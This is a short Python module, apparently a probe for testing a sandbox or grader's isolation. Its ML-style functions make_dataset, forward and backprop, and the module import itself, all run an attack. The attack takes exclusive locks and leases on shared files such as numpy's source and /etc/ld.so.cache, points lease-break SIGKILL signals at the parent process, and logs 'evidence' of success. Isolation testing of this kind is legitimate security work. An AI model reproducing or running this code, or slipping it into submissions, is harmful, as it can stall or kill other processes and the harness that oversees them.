"""Locks and leases the files that all share, so that others wait, and asks to be told of what they do."""
import fcntl
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE shared-locks:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-shared-locks", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass


import numpy

FILES = [numpy.__file__, os.__file__, "/dev/null", "/dev/urandom", "/etc/ld.so.cache"]
kept = []


def attack():
    for path in FILES:
        try:
            descriptor = os.open(path, os.O_RDONLY)
        except OSError:
            continue
        kept.append(descriptor)
        for name, command, value in (("lease", 1024, 0), ("notify", 1026, 4), ("owner", 8, os.getppid()), ("signal", 10, 9)):
            try:
                fcntl.fcntl(descriptor, command, value)
            except OSError:
                continue
            evidence(f"{name} on {path}")
        for flags in (fcntl.LOCK_EX | fcntl.LOCK_NB,):
            try:
                fcntl.flock(descriptor, flags)
            except OSError:
                continue


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
